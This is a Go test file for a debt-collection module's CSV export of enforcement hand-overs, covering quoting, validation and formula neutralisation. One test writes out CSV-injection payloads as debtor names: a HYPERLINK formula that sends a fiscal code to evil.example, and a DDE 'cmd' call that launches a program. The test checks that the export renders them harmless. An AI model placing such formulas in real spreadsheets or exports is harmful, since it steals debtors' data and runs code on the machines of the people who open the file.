package reminders_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"incasso/domain/date"
	"incasso/domain/reminders"
)

func handovers() []reminders.Handover {
	return []reminders.Handover{
		{
			IUPD: "00560180128-TARI-2026-42", NoticeNumber: "302201151398574181",
			DebtorFiscalCode: "RGANCC80A01D869X", DebtorName: "Niccolò Ragù",
			Amount: 123456, DueDate: date.Date{Year: 2026, Month: time.December, Day: 31},
			HandedOverAt: time.Date(2027, time.March, 31, 22, 30, 0, 0, time.UTC), // 1 April in Rome
			ServiceCode:  "TARI",
		},
		{
			IUPD: "00560180128-COSAP-2026-7", NoticeNumber: "302201151398574282",
			DebtorFiscalCode: "01234567890", DebtorName: `Bar "Da Gino"; di Rossi & C. s.n.c.`,
			Amount: 5, DueDate: date.Date{Year: 2026, Month: time.June, Day: 30},
			HandedOverAt: time.Date(2027, time.January, 15, 9, 0, 0, 0, date.Rome),
			ServiceCode:  "COSAP",
		},
	}
}

func TestEnforcementCSV(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	require.NoError(t, reminders.EnforcementCSV(&buf, handovers()))
	out := buf.String()
	require.True(t, strings.HasPrefix(out,
		"iupd;codice_avviso;codice_fiscale_debitore;denominazione_debitore;importo;data_scadenza;data_affidamento;codice_servizio\r\n"))
	require.Contains(t, out, "\r\n00560180128-COSAP-2026-7;302201151398574282;01234567890;"+
		`"Bar ""Da Gino""; di Rossi & C. s.n.c.";0,05;30/06/2026;15/01/2027;COSAP`+"\r\n")

	r := csv.NewReader(strings.NewReader(out))
	r.Comma = ';'
	records, err := r.ReadAll()
	require.NoError(t, err)
	require.Equal(t, [][]string{
		reminders.EnforcementHeader,
		{"00560180128-TARI-2026-42", "302201151398574181", "RGANCC80A01D869X", "Niccolò Ragù", "1234,56", "31/12/2026", "01/04/2027", "TARI"},
		{"00560180128-COSAP-2026-7", "302201151398574282", "01234567890", `Bar "Da Gino"; di Rossi & C. s.n.c.`, "0,05", "30/06/2026", "15/01/2027", "COSAP"},
	}, records)
}

// A debtor's name that a spreadsheet would evaluate (it passes the checks of a debt: printable,
// one line) comes out as text, with the apostrophe that tells the spreadsheet so.
func TestEnforcementCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	rows := handovers()
	rows[0].DebtorName = `=HYPERLINK("http://evil.example/?cf="&C2,"Rossi Mario")`
	rows[1].DebtorName = "@SUM(1+1)*cmd|' /C calc'!A0"
	var buf bytes.Buffer
	require.NoError(t, reminders.EnforcementCSV(&buf, rows))
	require.Contains(t, buf.String(), `;"'=HYPERLINK(""http://evil.example/?cf=""&C2,""Rossi Mario"")";`)
	r := csv.NewReader(strings.NewReader(buf.String()))
	r.Comma = ';'
	records, err := r.ReadAll()
	require.NoError(t, err)
	require.Equal(t, `'=HYPERLINK("http://evil.example/?cf="&C2,"Rossi Mario")`, records[1][3])
	require.Equal(t, "'@SUM(1+1)*cmd|' /C calc'!A0", records[2][3])
	for _, record := range records {
		for _, cell := range record {
			require.NotContains(t, "=+-@\t\r", cell[:1], "no cell starts a formula: %q", cell)
		}
	}
}

func TestEnforcementCSVEmpty(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	require.NoError(t, reminders.EnforcementCSV(&buf, nil))
	require.Equal(t, strings.Join(reminders.EnforcementHeader, ";")+"\r\n", buf.String())
}

func TestEnforcementCSVValidation(t *testing.T) {
	t.Parallel()
	cases := []struct {
		field  string
		change func(*reminders.Handover)
	}{
		{"IUPD", func(h *reminders.Handover) { h.IUPD = "" }},
		{"NoticeNumber", func(h *reminders.Handover) { h.NoticeNumber = secret }},
		{"DebtorFiscalCode", func(h *reminders.Handover) { h.DebtorFiscalCode = " " }},
		{"DebtorName", func(h *reminders.Handover) { h.DebtorName = secret + "\n" }},
		{"Amount", func(h *reminders.Handover) { h.Amount = -1 }},
		{"DueDate", func(h *reminders.Handover) { h.DueDate = date.Date{} }},
		{"HandedOverAt", func(h *reminders.Handover) { h.HandedOverAt = time.Time{} }},
		{"ServiceCode", func(h *reminders.Handover) { h.ServiceCode = "" }},
	}
	for _, c := range cases {
		rows := handovers()
		c.change(&rows[1])
		var buf bytes.Buffer
		err := reminders.EnforcementCSV(&buf, rows)
		require.ErrorIs(t, err, reminders.ErrInvalid, c.field)
		require.Contains(t, err.Error(), "hand-over 2: "+c.field)
		require.NotContains(t, err.Error(), secret)
		require.Zero(t, buf.Len(), "nothing written before every row is checked")
	}
}
